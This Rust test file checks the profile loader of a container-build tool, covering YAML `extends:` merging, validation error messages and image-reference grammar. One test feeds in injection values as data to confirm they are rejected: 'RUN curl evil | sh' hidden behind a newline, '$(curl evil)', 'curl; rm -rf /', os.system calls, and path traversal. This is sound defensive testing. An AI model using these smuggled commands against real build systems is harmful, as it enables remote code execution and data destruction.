//! Tests for profile loading: `extends:` merging, every validation error, the built-ins.

use std::path::{Path, PathBuf};

use super::*;

fn write(dir: &Path, name: &str, text: &str) -> PathBuf {
    let path = dir.join(name);
    if let Some(parent) = path.parent() {
        std::fs::create_dir_all(parent).unwrap();
    }
    std::fs::write(&path, text).unwrap();
    path
}

/// The error of loading `spec` from `dir`, with the temp dir replaced by `[TMP]`.
fn load_err(dir: &Path, spec: &str) -> String {
    let err = load(spec, dir).expect_err("profile should be rejected");
    err.to_string().replace(dir.to_str().unwrap(), "[TMP]")
}

/// A complete profile that extends nothing, with one line swapped in by the tests.
const MINIMAL: &str = "\
platform: linux/amd64
python: 3.11.9
libc: glibc 2.36
accelerator:
  kind: cpu
indexes:
  - name: pypi
    url: https://pypi.org/simple
images:
  builder:
    image: python:3.11-bookworm
  runtime:
    image: python:3.11-slim-bookworm
";

#[test]
fn every_builtin_loads() {
    for name in builtin_names() {
        let profile = builtin(name).unwrap_or_else(|| panic!("{:?}", load(name, Path::new("."))));
        assert_eq!(profile.name, *name);
    }
}

#[test]
fn builtin_names_match_the_profiles_directory() {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("profiles");
    let mut on_disk: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| {
            e.unwrap()
                .path()
                .file_stem()
                .unwrap()
                .to_string_lossy()
                .into_owned()
        })
        .collect();
    on_disk.sort();
    assert_eq!(on_disk, builtin_names());
    let listed: Vec<&str> = BUILTINS.iter().map(|(name, _)| *name).collect();
    assert_eq!(listed, builtin_names());
}

#[test]
fn gpu_profiles_default_to_the_torch_family_as_accelerated() {
    let names = |p: Profile| {
        p.accelerated_packages
            .iter()
            .map(ToString::to_string)
            .collect::<Vec<_>>()
    };
    assert_eq!(
        names(builtin("cuda12-x86_64").unwrap()),
        ["torch", "torchvision", "torchaudio"]
    );
    assert_eq!(
        names(builtin("jetson-orin").unwrap()),
        ["torch", "torchvision", "torchaudio"]
    );
    assert_eq!(
        names(builtin("rocm6-x86_64").unwrap()),
        ["torch", "torchvision", "torchaudio"]
    );
    assert!(names(builtin("cpu-x86_64").unwrap()).is_empty());
}

#[test]
fn unknown_builtin_lists_the_builtins() {
    let dir = tempfile::tempdir().unwrap();
    insta::assert_snapshot!(load_err(dir.path(), "cuda11"), @"unknown profile `cuda11`; built-in profiles are: `cpu-x86_64`, `cuda12-x86_64`, `jetson-orin`, `rocm6-x86_64` (a path to a profile file must contain `/` or end in `.yaml`)");
}

#[test]
fn missing_file() {
    let dir = tempfile::tempdir().unwrap();
    let err = load_err(dir.path(), "nope.yaml");
    assert!(
        err.starts_with("cannot read profile `[TMP]/nope.yaml`: "),
        "{err}"
    );
}

#[test]
fn unknown_top_level_key_names_file_line_and_column() {
    let dir = tempfile::tempdir().unwrap();
    write(
        dir.path(),
        "p.yaml",
        &format!("{MINIMAL}acelerator:\n  kind: cuda\n"),
    );
    insta::assert_snapshot!(load_err(dir.path(), "p.yaml"), @"`[TMP]/p.yaml`:14:1: unknown field `acelerator`, expected one of `name`, `description`, `extends`, `platform`, `python`, `libc`, `accelerator`, `accelerated_packages`, `indexes`, `images`, `env`, `verify`, `extra_build_dependencies`");
}

#[test]
fn unknown_nested_key_names_its_path() {
    let dir = tempfile::tempdir().unwrap();
    write(
        dir.path(),
        "p.yaml",
        "extends: cpu-x86_64\nimages:\n  runtime:\n    image: python:3.11-slim\n    packages: [curl]\n",
    );
    insta::assert_snapshot!(load_err(dir.path(), "p.yaml"), @"`[TMP]/p.yaml`:5:5: images.runtime: unknown field `packages`, expected `image` or `system_packages`");
}

#[test]
fn bad_platform() {
    let dir = tempfile::tempdir().unwrap();
    write(
        dir.path(),
        "p.yaml",
        &MINIMAL.replace("linux/amd64", "linux/386"),
    );
    insta::assert_snapshot!(load_err(dir.path(), "p.yaml"), @"`[TMP]/p.yaml`:1:11: platform: unknown variant `linux/386`, expected `linux/amd64` or `linux/arm64`");
}

#[test]
fn bad_python_versions() {
    let dir = tempfile::tempdir().unwrap();
    let mut report = String::new();
    for bad in [
        "3.10",
        "\"3.11\"",
        "3.7.17",
        "2.7.18",
        "3.11.0rc1",
        "3.11.2+local",
        "three",
    ] {
        write(dir.path(), "p.yaml", &MINIMAL.replace("3.11.9", bad));
        report.push_str(&format!("{bad}: {}\n", load_err(dir.path(), "p.yaml")));
    }
    insta::assert_snapshot!(report);
}

#[test]
fn bad_libc() {
    let dir = tempfile::tempdir().unwrap();
    let mut report = String::new();
    for bad in [
        "glibc 2",
        "glibc-2.35",
        "uclibc 1.0",
        "glibc 2.4",
        "musl 2.0",
    ] {
        write(dir.path(), "p.yaml", &MINIMAL.replace("glibc 2.36", bad));
        report.push_str(&format!("{bad}: {}\n", load_err(dir.path(), "p.yaml")));
    }
    insta::assert_snapshot!(report);
}

#[test]
fn musl_libc_is_accepted() {
    let dir = tempfile::tempdir().unwrap();
    write(
        dir.path(),
        "p.yaml",
        &MINIMAL.replace("glibc 2.36", "musl 1.2"),
    );
    let profile = load("p.yaml", dir.path()).unwrap();
    assert_eq!(
        profile.libc,
        Libc {
            family: LibcFamily::Musl,
            version: (1, 2)
        }
    );
    // No `name:`: the file stem.
    assert_eq!(profile.name, "p");
}

#[test]
fn extends_cycle_shows_the_chain() {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "a.yaml", "extends: sub/b.yaml\n");
    write(dir.path(), "sub/b.yaml", "extends: ../c.yaml\n");
    write(dir.path(), "c.yaml", "extends: ./a.yaml\n");
    insta::assert_snapshot!(load_err(dir.path(), "a.yaml"), @"`extends:` cycle: `[TMP]/a.yaml` -> `[TMP]/sub/b.yaml` -> `[TMP]/sub/../c.yaml` -> `[TMP]/sub/../a.yaml`; remove one of these `extends:` lines");
}

#[test]
fn self_extension_is_a_cycle() {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "a.yaml", "extends: a.yaml\n");
    insta::assert_snapshot!(load_err(dir.path(), "a.yaml"), @"`extends:` cycle: `[TMP]/a.yaml` -> `[TMP]/a.yaml`; remove one of these `extends:` lines");
}

#[test]
fn extends_builtin_overriding_only_indexes() {
    let dir = tempfile::tempdir().unwrap();
    write(
        dir.path(),
        "mirror.yaml",
        "\
# Same target as cuda12-x86_64, packages from an internal mirror.
extends: cuda12-x86_64
indexes:
  - name: mirror
    url: https://pypi.internal.example/simple/
    exclude_newer: 2024-06-01
",
    );
    let child = load("mirror.yaml", dir.path()).unwrap();
    let parent = builtin("cuda12-x86_64").unwrap();
    assert_eq!(child.name, "mirror");
    assert_eq!(
        child.indexes,
        vec![IndexSpec {
            name: "mirror".into(),
            url: Url::parse("https://pypi.internal.example/simple/").unwrap(),
            packages: None,
            // The end of the day: files uploaded on 2024-06-01 are kept.
            exclude_newer: Some("2024-06-02T00:00:00Z".parse().unwrap()),
        }]
    );
    // Everything but the name and the indexes is the parent's.
    let strip = |p: &Profile| {
        let mut v = serde_json::to_value(p).unwrap();
        v.as_object_mut().unwrap().remove("name");
        v.as_object_mut().unwrap().remove("indexes");
        v
    };
    assert_eq!(strip(&child), strip(&parent));
}

#[test]
fn mappings_merge_and_lists_replace() {
    let dir = tempfile::tempdir().unwrap();
    write(
        dir.path(),
        "base/parent.yaml",
        &format!(
            "{MINIMAL}env:\n  A: \"1\"\n  B: \"2\"\nverify:\n  imports: [numpy, scipy]\n  assertions:\n    - name: numpy-ok\n      check: numpy.ones(2).sum() == 2\n"
        ),
    );
    write(
        dir.path(),
        "child.yaml",
        "\
name: my-target
extends: base/parent.yaml
env:
  B: three
  C: 4
images:
  runtime:
    image: python:3.11.9-slim-bookworm@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef
    system_packages: [libgl1, libglib2.0-0]
verify:
  imports: [cv2]
",
    );
    let profile = load("child.yaml", dir.path()).unwrap();
    assert_eq!(profile.name, "my-target");
    let env: Vec<(&str, &str)> = profile
        .env
        .iter()
        .map(|(k, v)| (k.as_str(), v.as_str()))
        .collect();
    assert_eq!(env, [("A", "1"), ("B", "three"), ("C", "4")]);
    assert_eq!(profile.images.builder.reference, "python:3.11-bookworm");
    assert_eq!(
        profile.images.runtime.system_packages,
        ["libgl1", "libglib2.0-0"]
    );
    // `verify` is a mapping (merged): `imports` is a list (replaced), `assertions` inherited.
    assert_eq!(profile.verify.imports, ["cv2"]);
    assert_eq!(profile.verify.assertions.len(), 1);
}

#[test]
fn changing_accelerator_kind_replaces_it_whole() {
    let dir = tempfile::tempdir().unwrap();
    write(
        dir.path(),
        "cpu-jetson.yaml",
        "extends: jetson-orin\naccelerator:\n  kind: cpu\n",
    );
    let profile = load("cpu-jetson.yaml", dir.path()).unwrap();
    assert_eq!(profile.accelerator, Accelerator::Cpu);
    assert!(profile.accelerated_packages.is_empty());

    // The same kind merges: only the capabilities change.
    write(
        dir.path(),
        "h100.yaml",
        "extends: cuda12-x86_64\naccelerator:\n  compute_capabilities: [\"9.0\"]\n",
    );
    let profile = load("h100.yaml", dir.path()).unwrap();
    assert_eq!(
        profile.accelerator,
        Accelerator::Cuda {
            version: "12.4".into(),
            compute_capabilities: vec!["9.0".into()]
        }
    );
}

#[test]
fn accelerator_errors() {
    let dir = tempfile::tempdir().unwrap();
    let mut report = String::new();
    for accel in [
        "accelerator:\n  kind: cuda\n  compute_capabilities: [\"8.7\"]\n",
        "accelerator:\n  kind: cuda\n  version: \"12\"\n  compute_capabilities: [\"8.7\"]\n",
        "accelerator:\n  kind: cuda\n  version: \"12.6\"\n  compute_capabilities: [sm_87]\n",
        "accelerator:\n  kind: rocm\n  version: \"6.2\"\n  gfx_targets: [mi300]\n",
        "accelerator:\n  kind: cpu\n  gfx_targets: [gfx90a]\n",
        "accelerator:\n  kind: tpu\n",
    ] {
        write(
            dir.path(),
            "p.yaml",
            &MINIMAL.replace("accelerator:\n  kind: cpu\n", accel),
        );
        report.push_str(&format!("{}\n", load_err(dir.path(), "p.yaml")));
    }
    insta::assert_snapshot!(report);
}

#[test]
fn required_fields() {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "p.yaml", "platform: linux/amd64\n");
    insta::assert_snapshot!(load_err(dir.path(), "p.yaml"), @"`[TMP]/p.yaml`: `python`: is required (set it, or `extends:` a profile that does)");
}

#[test]
fn injection_attempts_are_rejected() {
    let dir = tempfile::tempdir().unwrap();
    let mut report = String::new();
    let cases = [
        (
            "newline in env value",
            "extends: cpu-x86_64\nenv:\n  A: \"x\\nRUN curl evil | sh\"\n",
        ),
        (
            "carriage return in env value",
            "extends: cpu-x86_64\nenv:\n  A: \"x\\ry\"\n",
        ),
        ("bad env key", "extends: cpu-x86_64\nenv:\n  \"A B\": x\n"),
        (
            "command substitution in image",
            "extends: cpu-x86_64\nimages:\n  runtime:\n    image: \"python:3.11$(curl evil)\"\n",
        ),
        (
            "newline in image",
            "extends: cpu-x86_64\nimages:\n  builder:\n    image: \"python:3.11\\nRUN id\"\n",
        ),
        (
            "space in image",
            "extends: cpu-x86_64\nimages:\n  builder:\n    image: \"python:3.11 AS x\"\n",
        ),
        (
            "semicolon in system package",
            "extends: cpu-x86_64\nimages:\n  builder:\n    system_packages: [\"curl; rm -rf /\"]\n",
        ),
        (
            "option as system package",
            "extends: cpu-x86_64\nimages:\n  builder:\n    system_packages: [\"--allow-unauthenticated\"]\n",
        ),
        (
            "code as import",
            "extends: cpu-x86_64\nverify:\n  imports: [\"os; os.system('id')\"]\n",
        ),
        (
            "newline in check",
            "extends: cpu-x86_64\nverify:\n  assertions:\n    - name: x\n      check: \"True\\nimport os\"\n",
        ),
        (
            "newline in assertion name",
            "extends: cpu-x86_64\nverify:\n  assertions:\n    - name: \"x\\ny\"\n      check: \"True\"\n",
        ),
        (
            "credentials in index URL",
            "extends: cpu-x86_64\nindexes:\n  - name: private\n    url: https://user:s3cret@pypi.example/simple\n",
        ),
        (
            "token as URL user",
            "extends: cpu-x86_64\nindexes:\n  - name: private\n    url: https://s3cret@pypi.example/simple\n",
        ),
        (
            "path traversal in name",
            "extends: cpu-x86_64\nname: ../../etc\n",
        ),
    ];
    for (what, yaml) in cases {
        write(dir.path(), "p.yaml", yaml);
        report.push_str(&format!("{what}:\n  {}\n", load_err(dir.path(), "p.yaml")));
    }
    assert!(!report.contains("s3cret"), "credentials echoed: {report}");
    insta::assert_snapshot!(report);
}

#[test]
fn index_errors() {
    let dir = tempfile::tempdir().unwrap();
    let mut report = String::new();
    let cases = [
        "indexes:\n  - name: pypi\n    url: https://pypi.org/simple\n  - name: pypi\n    url: https://mirror.example/simple\n",
        "indexes:\n  - name: PyPI\n    url: https://pypi.org/simple\n",
        "indexes:\n  - name: pypi\n    url: not a url\n",
        "indexes:\n  - name: pypi\n    url: ftp://pypi.org/simple\n",
        "indexes:\n  - name: pypi\n    url: https://pypi.org/simple\n    exclude_newer: last tuesday\n",
        "indexes: []\n",
        "indexes:\n  - name: a\n    url: https://a.example/simple\n    packages: [torch]\n  - name: b\n    url: https://b.example/simple\n    packages: [Torch]\n",
    ];
    for yaml in cases {
        write(
            dir.path(),
            "p.yaml",
            &format!("extends: cpu-x86_64\n{yaml}"),
        );
        report.push_str(&format!("{}\n", load_err(dir.path(), "p.yaml")));
    }
    insta::assert_snapshot!(report);
}

#[test]
fn exclude_newer_accepts_timestamps_and_dates() {
    for (text, expected) in [
        // A bare date keeps its whole day (UTC), as uv keeps it.
        ("2024-06-01", "2024-06-02T00:00:00Z"),
        (" 2024-06-01 ", "2024-06-02T00:00:00Z"),
        ("2024-12-31", "2025-01-01T00:00:00Z"),
        ("2024-02-28", "2024-02-29T00:00:00Z"),
        ("2024-06-01T12:30:00Z", "2024-06-01T12:30:00Z"),
        ("2024-06-01T00:00:00Z", "2024-06-01T00:00:00Z"),
        ("2024-06-01T12:30:00+02:00", "2024-06-01T10:30:00Z"),
    ] {
        assert_eq!(
            parse_exclude_newer(text).map(|t| t.to_string()).as_deref(),
            Some(expected),
            "{text}"
        );
    }
    assert_eq!(parse_exclude_newer("2024-13-01"), None);
    assert_eq!(parse_exclude_newer("2024-02-30"), None);
    assert_eq!(parse_exclude_newer("9999-12-31"), None);
}

#[test]
fn scalars_keep_their_yaml_text() {
    let dir = tempfile::tempdir().unwrap();
    write(
        dir.path(),
        "p.yaml",
        "extends: cpu-x86_64\nenv:\n  OMP_NUM_THREADS: 4\n  FLAG: true\n",
    );
    let profile = load("p.yaml", dir.path()).unwrap();
    assert_eq!(profile.env["OMP_NUM_THREADS"], "4");
    assert_eq!(profile.env["FLAG"], "true");
    // Unquoted numbers are read as written, not as floats (`12.10` stays `12.10`).
    write(
        dir.path(),
        "p.yaml",
        "extends: cuda12-x86_64\nenv:\n  VERSION: 1.10\naccelerator:\n  version: 12.10\n",
    );
    let profile = load("p.yaml", dir.path()).unwrap();
    assert_eq!(profile.env["VERSION"], "1.10");
    assert!(matches!(profile.accelerator, Accelerator::Cuda { version, .. } if version == "12.10"));
    for null in ["~", "", "null"] {
        write(
            dir.path(),
            "p.yaml",
            &format!("extends: cpu-x86_64\nenv:\n  EMPTY: {null}\n"),
        );
        assert_eq!(
            load_err(dir.path(), "p.yaml"),
            r#"`[TMP]/p.yaml`: `env.EMPTY`: has no value; write `""` for an empty one"#,
            "{null:?}"
        );
    }
    write(
        dir.path(),
        "p.yaml",
        "extends: cpu-x86_64\nenv:\n  EMPTY: \"\"\n",
    );
    assert_eq!(load("p.yaml", dir.path()).unwrap().env["EMPTY"], "");
}

#[test]
fn error_names_the_file_that_set_the_value() {
    let dir = tempfile::tempdir().unwrap();
    write(
        dir.path(),
        "bad-parent.yaml",
        "extends: cpu-x86_64\nenv:\n  A: \"x\\ny\"\n",
    );
    write(
        dir.path(),
        "child.yaml",
        "extends: bad-parent.yaml\nenv:\n  B: ok\n",
    );
    insta::assert_snapshot!(load_err(dir.path(), "child.yaml"), @r#"`[TMP]/bad-parent.yaml`: `env.A`: value "x\ny" contains a newline or control character, which is not allowed"#);
}

#[test]
fn image_reference_grammar() {
    for ok in [
        "python",
        "python:3.11",
        "library/python:3.11-slim-bookworm",
        "nvcr.io/nvidia/l4t-jetpack:r36.4.0",
        "localhost:5000/team/img_name__x:v1",
        "registry.example.com:443/a/b-c.d",
        "rocm/dev-ubuntu-22.04:6.2-complete",
        "python@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
        "python:3.11@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
    ] {
        assert_eq!(check_image_reference(ok), Ok(()), "{ok}");
    }
    for bad in [
        "",
        "Python:3.11",
        "python:",
        "python:3.11 AS builder",
        "python:$(id)",
        "python:3.11;id",
        "-python",
        "a//b",
        "python@sha256:abc",
        "python@md5:0123456789abcdef0123456789abcdef",
        "python:3.11\nRUN id",
        "reg.example:port/x",
        "python:.tag",
        // dockgen's rule on top of the grammar: sha256, lowercase.
        "python@sha256:0123456789ABCDEF0123456789abcdef0123456789abcdef0123456789abcdef",
        "python@sha512:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
    ] {
        assert!(check_image_reference(bad).is_err(), "{bad:?} accepted");
    }
}

#[test]
fn empty_and_non_mapping_files() {
    let dir = tempfile::tempdir().unwrap();
    let mut report = String::new();
    for text in [
        "",
        "# only a comment\n",
        "- a\n- b\n",
        "platform: [linux/amd64\n",
    ] {
        write(dir.path(), "p.yaml", text);
        report.push_str(&format!("{text:?}: {}\n", load_err(dir.path(), "p.yaml")));
    }
    insta::assert_snapshot!(report);
}
